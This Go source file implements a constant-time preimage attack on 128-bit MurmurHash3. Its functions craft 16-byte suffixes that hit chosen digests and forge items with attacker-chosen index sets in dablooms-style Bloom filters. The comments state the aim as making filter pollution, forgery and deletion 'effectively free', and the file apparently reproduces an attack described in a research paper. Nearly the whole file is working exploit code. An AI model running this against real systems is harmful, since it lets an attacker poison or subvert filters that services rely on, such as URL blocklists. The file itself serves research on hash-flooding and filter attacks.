package hashes

import (
	"encoding/binary"
	"fmt"
	"math/bits"
)

// This file inverts the 128-bit x64 MurmurHash3 variant, the one the
// service's naive mode derives its indexes from — the paper's remark (§6.2):
// "The forgery of the required URLs is straightforward since MurmurHash can
// be inverted in constant time." For inputs whose length is a multiple of
// the 16-byte block size, every step of the algorithm is a bijection on
// (uint64, uint64), so a full 128-bit digest can be hit with a single
// constant-time computation. Because dablooms derives all k filter
// indexes from one Murmur128 digest via g_i = h1 + i·h2 (Kirsch–
// Mitzenmacher), this gives the adversary direct write access to index sets:
// she picks (h1, h2), inverts, and obtains a 16-byte suffix for any chosen
// prefix — the strongest form of the remark.

var (
	invFmix64C1   = mulInverse64(0xff51afd7ed558ccd)
	invFmix64C2   = mulInverse64(0xc4ceb9fe1a85ec53)
	invMurmur64C1 = mulInverse64(murmur64C1)
	invMurmur64C2 = mulInverse64(murmur64C2)
	invFive64     = mulInverse64(5)
)

// mulInverse64 returns x with a·x ≡ 1 (mod 2^64) for odd a.
func mulInverse64(a uint64) uint64 {
	x := a
	for i := 0; i < 6; i++ {
		x *= 2 - a*x
	}
	return x
}

// unxorshiftRight64 inverts h ^= h >> s for 0 < s < 64.
func unxorshiftRight64(h uint64, s uint) uint64 {
	res := h
	for i := s; i < 64; i += s {
		res = h ^ (res >> s)
	}
	return res
}

// InvertFmix64 inverts MurmurHash3's 64-bit finalizer.
func InvertFmix64(h uint64) uint64 {
	h = unxorshiftRight64(h, 33)
	h *= invFmix64C2
	h = unxorshiftRight64(h, 33)
	h *= invFmix64C1
	h = unxorshiftRight64(h, 33)
	return h
}

// murmur128State returns (h1, h2) after absorbing data (length must be a
// multiple of 16) from seed, before length-xor and finalization.
func murmur128State(data []byte, seed uint64) (uint64, uint64) {
	h1, h2 := seed, seed
	for len(data) >= 16 {
		k1 := binary.LittleEndian.Uint64(data)
		k2 := binary.LittleEndian.Uint64(data[8:])
		data = data[16:]

		k1 *= murmur64C1
		k1 = bits.RotateLeft64(k1, 31)
		k1 *= murmur64C2
		h1 ^= k1
		h1 = bits.RotateLeft64(h1, 27)
		h1 += h2
		h1 = h1*5 + 0x52dce729

		k2 *= murmur64C2
		k2 = bits.RotateLeft64(k2, 33)
		k2 *= murmur64C1
		h2 ^= k2
		h2 = bits.RotateLeft64(h2, 31)
		h2 += h1
		h2 = h2*5 + 0x38495ab5
	}
	return h1, h2
}

// Murmur128Preimage returns prefix‖suffix with a computed 16-byte suffix such
// that Murmur128(message, seed) == (target1, target2). The prefix length
// must be a multiple of 16 bytes.
func Murmur128Preimage(prefix []byte, target1, target2, seed uint64) ([]byte, error) {
	if len(prefix)%16 != 0 {
		return nil, fmt.Errorf("hashes: prefix length %d is not a multiple of the 16-byte block size", len(prefix))
	}
	n := uint64(len(prefix) + 16)

	// Invert the finalization: h1 += h2; h2 += h1; fmix both; h1 += h2; h2 += h1.
	h1, h2 := target1, target2
	h2 -= h1
	h1 -= h2
	h1 = InvertFmix64(h1)
	h2 = InvertFmix64(h2)
	h2 -= h1
	h1 -= h2
	// Invert the length xor.
	h1 ^= n
	h2 ^= n

	// h1, h2 are now the post-body states. Compute the pre-block states from
	// the prefix, then solve the final block (k1, k2).
	p1, p2 := murmur128State(prefix, seed)

	// Step 1 (h1 update) depends only on k1 and (p1, p2):
	//   h1 = (rotl27(p1 ^ scr1(k1)) + p2)·5 + 0x52dce729
	t1 := (h1 - 0x52dce729) * invFive64
	t1 -= p2
	t1 = bits.RotateLeft64(t1, -27)
	k1 := t1 ^ p1
	k1 *= invMurmur64C2
	k1 = bits.RotateLeft64(k1, -31)
	k1 *= invMurmur64C1

	// Step 2 (h2 update) uses the already-final h1:
	//   h2 = (rotl31(p2 ^ scr2(k2)) + h1)·5 + 0x38495ab5
	t2 := (h2 - 0x38495ab5) * invFive64
	t2 -= h1
	t2 = bits.RotateLeft64(t2, -31)
	k2 := t2 ^ p2
	k2 *= invMurmur64C1
	k2 = bits.RotateLeft64(k2, -33)
	k2 *= invMurmur64C2

	out := make([]byte, len(prefix)+16)
	copy(out, prefix)
	binary.LittleEndian.PutUint64(out[len(prefix):], k1)
	binary.LittleEndian.PutUint64(out[len(prefix)+8:], k2)
	return out, nil
}

// Murmur128PreimageIndexes forges an item whose Kirsch–Mitzenmacher index
// set under (k, m, seed) is exactly {base + i·stride mod m}: it selects
// digest halves h1 = base and h2 = stride and inverts. Combined with a
// search over (base, stride) pairs — pure arithmetic, no hashing — this
// makes pollution, forgery and deletion against dablooms-style filters
// effectively free.
func Murmur128PreimageIndexes(prefix []byte, base, stride, m uint64, seed uint64) ([]byte, error) {
	if m == 0 {
		return nil, fmt.Errorf("hashes: filter size must be positive")
	}
	if base >= m || stride >= m {
		return nil, fmt.Errorf("hashes: base %d or stride %d out of range for m=%d", base, stride, m)
	}
	return Murmur128Preimage(prefix, base, stride, seed)
}
